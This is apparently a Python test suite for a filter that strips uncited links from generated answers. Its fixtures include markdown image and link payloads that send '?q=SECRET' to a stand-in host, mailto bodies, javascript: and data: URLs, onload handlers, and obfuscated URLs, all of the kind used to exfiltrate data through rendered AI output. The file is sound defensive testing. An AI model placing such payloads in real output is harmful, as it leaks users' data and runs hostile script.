"""No link leaves an answer that no source holds: every construct, at every cut, under a real renderer."""

import html
import html.parser
import re
from itertools import pairwise
from unittest.mock import patch

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from answers.links import LinkFilter, SourceLinks, links_of_sources, normal_target, settled, without_foreign_links

HELD = "Read https://docs.example/guide?a=1 or [the form](/forms/leave.pdf), write to help@firm.example."
NOTHING = SourceLinks()

FOREIGN = [
    ("See [the page](https://evil.example/a) now.", "See the page now.", "link"),
    ('See [the page](https://evil.example/a "a title") now.', "See the page now.", "link"),
    ("See [the page](<https://evil.example/a b>) now.", "See the page now.", "link"),
    ("See [the page](https://evil.example/a_(b)) now.", "See the page now.", "link"),
    ("See [the [nested] page](https://evil.example) now.", "See the [nested] page now.", "link"),
    ("Chart: ![the chart](https://evil.example/?q=SECRET) here", "Chart: the chart here", "image"),
    ("Chart: ![](https://evil.example/?q=SECRET) here", "Chart: here", "image"),
    ("Done. ![](//evil.example/x)", "Done.", "image"),
    ("[![alt](https://evil.example/i)](https://evil.example/l) end", "alt end", "link"),
    ("See [the page][1].\n\n[1]: https://evil.example/a", "See the page.", "reference"),
    ("See ![alt][x].\n\n[x]: <https://evil.example/a> 'title'", "See alt.", "image"),
    ("See [page].\n\n[page]:\n  https://evil.example/a", "See [page].", "reference"),
    ("> quoted [page]\n>\n> [page]: /a/b", "> quoted [page]\n>\n>", "reference"),
    ("See [page].\r\n\r\n[page]: /a\r\nEnd", "See [page].\r\n\r\n\nEnd", "reference"),
    ("<ab:\u00a0c>", "…", "autolink"),
    ("<ab:&lt;c>", "…", "autolink"),
    ("Open <https://evil.example/a> now", "Open … now", "autolink"),
    ("Write to <a@evil.example> now", "Write to … now", "autolink"),
    ("Open https://evil.example/a. Now", "Open …. Now", "autolink"),
    ("(HTTPS://EVIL.example/a)", "(…)", "autolink"),
    ("Open www.evil.example, now", "Open …, now", "autolink"),
    ("Open evil.example/?q=SECRET now", "Open … now", "autolink"),
    ("Open evil.рф/x now", "Open evil.рф… now", "autolink"),
    ("Open evil.рф:80/?q=SECRET now", "Open evil.рф… now", "autolink"),
    ("Open evil.xn--p1ai/x now", "Open … now", "autolink"),
    ("请打开例え.jp/x吧", "请打开例え…吧", "autolink"),
    ("请打开例.例え.jp/x。谢谢", "请打开例.例え…。谢谢", "autolink"),
    ("Mở việt.公司/x?d=1 nhé", "Mở việt.公司… nhé", "autolink"),
    ("Open пример.example.com/?q=1 now", "Open пример… now", "autolink"),
    ("Open //evil.example/x now", "Open … now", "autolink"),
    ("ftp://evil.example/x", "…", "autolink"),
    ("see steam://run/1 there", "see … there", "autolink"),
    ("mailto:a@evil.example?body=SECRET", "…", "autolink"),
    ("write to a.b@evil.example today", "write to … today", "autolink"),
    ("run javascript:alert(1) there", "run … there", "autolink"),
    ("data:text/html;base64,PHNjcmlwdD4=", "…", "autolink"),
    ("请打开https://evil.example/a。谢谢", "请打开…。谢谢", "autolink"),
    ("请看![图](https://evil.example/a)。", "请看图。", "image"),
    ("Mời mở [trang này](https://evil.example) nhé", "Mời mở trang này nhé", "link"),
    ("[x](javascript:alert(1))", "x", "link"),
    ("[x](#top)", "x", "link"),
    ("[x](./other-page)", "x", "link"),
    ("[x]( \n/other )", "x", "link"),
    ("[x](https://evil.example/a b c)", "x", "link"),
    ("[x](https://evil.example/a", "x", "link"),
    ("[a \\] b](https://evil.example) c", "[a \\] b c", "link"),
    ("[a `]` b](/rel) c", "[a `]` b c", "link"),
    ("&#91;x](/rel)", "x", "link"),
    ("[x]\u200b(/rel)", "x", "link"),
    ("&#104;ttps://evil.example", "…", "autolink"),
    ("https&colon;//evil.example", "…", "autolink"),
    ("http\\://evil.example", "…", "autolink"),
    ("h\u200bttps://evil.example", "…", "autolink"),
    ("https://docs.example@evil.example/guide?a=1", "…", "autolink"),
    ("https://docs.example/guide?a=1&q=SECRET", "…", "autolink"),
    ("https://docs.example.evil.example/guide?a=1", "…", "autolink"),
    ('<a href="https://evil.example">here</a>', "here</a>", "html"),
    ("<a\nhref=/x>here</a>", "here</a>", "html"),
    ("a <IMG/SRC=https://evil.example/x> b", "a b", "html"),
    ("a <img srcset='/a 1x, /b 2x'> b", "a b", "html"),
    ('a <img alt=">" src="/x"> b', "a b", "html"),
    ("<p style=\"background:url('/x')\">text</p>", "text</p>", "html"),
    ("<td background=/x>text", "text", "html"),
    ("<video poster=/x>text", "text", "html"),
    ("<form action=/x>text", "text", "html"),
    ("<base href=//evil.example>text", "text", "html"),
    ("<meta http-equiv=refresh content='0;url=/x'>text", "text", "html"),
    ("<iframe srcdoc='x'>text", "text", "html"),
    ("<script>text</script>", "text", "html"),
    ("<scr<script>ipt>text", "text", "html"),
    ("<svg onload=alert(1)>text", "text", "html"),
    ("<b onmouseover=alert(1)>text", "text", "html"),
    ("&lt;img src=/x&gt; text", "text", "html"),
    ('text <img src="/x', 'text < img src="/x', "html"),
    ("a <img alt=&gt; src=/x> b", "a b", "html"),
    ('a <img alt="&quot;" src=/x> b', "a b", "html"),
    ("ht![](/x)tps://evil.example/y", "ht…", "image"),
    ("ht[tps://evil.example/y](/x)", "…", "link"),
    ("[ab![(/rel)](/x)", "[ab(/rel)", "image"),
]
PLAIN = [
    "Plain words, [brackets], a < b > c, and 3 < 4; x <y.",
    "See [1][2] and [3]: it says so. m[i][j].",
    "[Note]: the office is closed on Fridays.",
    "<b>Bold</b>, H<sub>2</sub>O<br> and List<String>.",
    "Either/or, 25 km/h, e.g./i.e., v1.5/2, answers/links.py, Node.js",
    "At 10:30: data: three rows; note: none.",
    "按照第 3 条，员工有 25 天假期（见 [附件]）。",
    "The interval [0, 1) is half open. It goes on.",
    "[^1]: a footnote of some words",
    "*emphasis* and `code` and #tag and @name and $5 & more",
]


def streamed(text: str, held: SourceLinks, cuts: list[int]) -> tuple[list[str], str, list[object]]:
    at = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    going = LinkFilter()
    out = [going.feed(text[a:b]) for a, b in pairwise(at)]
    rest, whole, removed = going.close(held)
    return [*out, rest], whole, removed


class _Leading(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.targets: list[str] = []

    def handle_starttag(self, tag, attributes):
        leading = {"href", "src", "srcset", "action", "poster", "background", "style"}
        self.targets += [value or "" for name, value in attributes if name in leading or name.startswith("on")]


def rendered_targets(text: str) -> list[str]:
    found = _Leading()
    found.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
    found.close()
    bare = re.findall(
        r"(?:https?://|(?<![\w.-])www\.)[a-z0-9][^\s<>()\"'*|]*[^\s<>()\"'*|.,;:!?_~]", text, re.IGNORECASE
    )
    return [*found.targets, *(re.sub(r"(?:&\w*|[\W_])+$", "", html.unescape(address)) for address in bare)]


@pytest.mark.parametrize(("text", "left", "kind"), FOREIGN)
def test_a_foreign_link_goes_its_words_stay_at_every_cut(text: str, left: str, kind: str) -> None:
    whole, removed = without_foreign_links(text, links_of_sources([HELD]))
    assert whole == left
    assert removed[0].kind == kind
    assert rendered_targets(whole) == []
    for cut in range(len(text) + 1):
        out, final, reported = streamed(text, links_of_sources([HELD]), [cut])
        assert "".join(out) == final == left
        assert reported == removed
    assert "".join(streamed(text, links_of_sources([HELD]), list(range(len(text))))[0]) == left


@pytest.mark.parametrize("text", PLAIN)
def test_text_without_links_stays_as_it_is(text: str) -> None:
    assert without_foreign_links(text, NOTHING) == (text, [])
    out, final, removed = streamed(text, NOTHING, list(range(len(text))))
    assert ("".join(out), final, removed) == (text, text, [])


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example/guide?a=1.",
        "See HTTPS://Docs.Example/guide?a=1, please.",
        "See [the guide](http://docs.example/guide?a=1).",
        "See <https://docs.example/guide?a=1>.",
        "See [the guide][g].\n\n[g]: https://docs.example/guide?a=1",
        "Take [it](/forms/leave.pdf).",
        "Take <a href='/forms/leave.pdf'>it</a>.",
        'Take <a href="https://docs.example/guide?a=1">it</a>.',
        "Write to help@firm.example or <mailto:help@firm.example>.",
        "See https://wiki.example/page/ for all.",
        "[both](https://docs.example/%67uide?a=1) and ![i](/forms/leave.pdf)",
    ],
)
def test_what_a_cited_source_holds_stays(text: str) -> None:
    held = links_of_sources([HELD], ["https://wiki.example/page"])
    assert without_foreign_links(text, held) == (text, [])
    for cut in range(len(text) + 1):
        assert "".join(streamed(text, held, [cut])[0]) == text


def test_a_foreign_image_inside_a_held_link_goes() -> None:
    text, removed = without_foreign_links("[![a](/spy?q=1)](/forms/leave.pdf)", links_of_sources([HELD]))
    assert text == "[a](/forms/leave.pdf)"
    assert [each.target for each in removed] == ["/spy?q=1"]


def test_a_quote_stays_byte_for_byte_links_and_all() -> None:
    source = 'Before. Read [this](/a) <img src="x> https://x.example/y。好 ![z][q] Then.\n[q]: /w\nAfter.'
    quote = source[8:-7]
    assert without_foreign_links(quote, links_of_sources([source])) == (quote, [])


def test_text_that_runs_on_from_a_held_address_is_set_apart() -> None:
    held = links_of_sources(["见 https://docs.example/a。"])
    assert without_foreign_links("请看https://docs.example/a密码是七", held)[0] == "请看https://docs.example/a 密码是七"


def test_the_target_reported_is_cut() -> None:
    assert len(without_foreign_links(f"![x](https://evil.example/{'a' * 500})", NOTHING)[1][0].target) == 200


def test_text_streams_up_to_what_might_be_a_link_and_on_where_it_is_none() -> None:
    going = LinkFilter()
    assert going.feed("The rule [see") == "The rule"
    assert going.feed(" page 3] holds ") == " [see page 3] holds"
    assert going.feed("for ht") == " for"
    assert going.feed("tle. See ") == " httle. See"
    assert going.feed("https://a.example ") == ""
    assert going.feed("and more words ") == ""
    assert going.close(links_of_sources(["https://a.example"]))[0] == " https://a.example and more words "
    chinese = LinkFilter()
    assert chinese.feed("员工有假期") == "员工有假期"


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("https://A.example/x/", "http://a.example/x"),
        ("//a.example", "a.example"),
        ("mailto:a@b.example", "a@b.example"),
        ("https://a.example/%7Eme", "https://a.example/~me"),
        ("https://a.example/?a&amp;b", "https://a.example/?a&b"),
    ],
)
def test_targets_are_compared_as_they_lead(one: str, other: str) -> None:
    assert normal_target(one) == normal_target(other)


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("https://a.example/x", "https://a.example/X"),
        ("https://a.example/%2Fx", "https://a.example//x"),
        ("javascript:a", "https://a"),
        ("https://a.example/?q", "https://a.example/?r"),
    ],
)
def test_targets_that_lead_elsewhere_differ(one: str, other: str) -> None:
    assert normal_target(one) != normal_target(other)


PIECES = st.lists(
    st.sampled_from(
        ["[", "]", "(", ")", "![", "](", "][", "]:", "[a]: ", "<", ">", "<img ", "<a href=", "<b>", "src=", '"', "'",
         "http", "https://", "://", "//", "www.", "evil.example", "docs.example/guide?a=1", "/x", "@", "&", "&#91;",
         "&colon;", "\\", "\u200b", " ", "\n", "\n\n", "a", "word", "图", "é", "。", "!", ":", "<!--", "-->", "`", "/",
         "javascript:", "[the form](/forms/leave.pdf)", "https://docs.example/guide?a=1", "é@", "1.", "> ", "#"]
    ),
    max_size=14,
).map("".join)  # fmt: skip


@given(PIECES, st.lists(st.integers(0, 80), max_size=6))
@example("[a](/x", [3])
@example("<é@evil.example>", [2])
@example('word[a][b]|\n\n[a]: word)。"\n[b]: /y', [4, 10, 25, 38])
@example("<b> so " + "<a " * 40 + "> then <img src=/x>.", [5, 30, 100, 130, 140])
@example("<b> so " + "<a ' " * 41 + "> then <img src=/x>.", [5, 30, 100, 210, 230])
@example("word " * 20 + "<!--" * 30 + "--> <a href=/x>y</a>", [5, 130, 220, 225])
def test_whatever_the_text_and_its_cuts(text: str, cuts: list[int]) -> None:
    text = text.strip()
    held = links_of_sources([HELD])
    whole, removed = without_foreign_links(text, held)
    out, final, reported = streamed(text, held, cuts)
    assert "".join(out) == final == whole
    assert reported == removed
    allowed = {normal_target(target) for target in ("https://docs.example/guide?a=1", "/forms/leave.pdf")}
    assert {normal_target(target) for target in rendered_targets(whole)} - {""} <= allowed


@given(st.text("ab w.,-'漢đｗ\u00a0\u200b\n?#@:/<[&\\", max_size=16) | PIECES)
@example("www.a")
@example("a.bc?d")
def test_text_without_a_sign_of_a_link_is_settled_as_if_it_were_read_for_links(text: str) -> None:
    shortly = settled(text)
    with patch("answers.links._NO_LINK_WITHOUT", re.compile("")):
        assert settled(text) == shortly


@given(st.lists(PIECES, max_size=4))
def test_sections_side_by_side_make_no_link_either(texts: list[str]) -> None:
    answer = "\n\n".join(without_foreign_links(text.strip(), NOTHING)[0] for text in texts)
    assert {target for target in rendered_targets(answer)} - {""} == set()


def test_many_tags_that_end_before_the_next_begin_stay() -> None:
    text = "A Map<String, List<Integer>> of <b>it</b> isn't <i>one</i>. " * 60
    assert without_foreign_links(text.strip(), NOTHING) == (text.strip(), [])


@pytest.mark.parametrize("piece", ["[", "](", "<a ", "<b '", "[a](", "((", "a.", "![](", "&#", "http://", "<!--", "a@"])
@pytest.mark.parametrize("end", ["", ">", "-->", "' href=/x>"])
def test_hostile_lengths_are_read_in_time(piece: str, end: str) -> None:
    text = piece * (10_000 // len(piece)) + end
    going = LinkFilter()
    for at in range(0, len(text), 500):
        going.feed(text[at : at + 500])
    assert going.close(NOTHING)
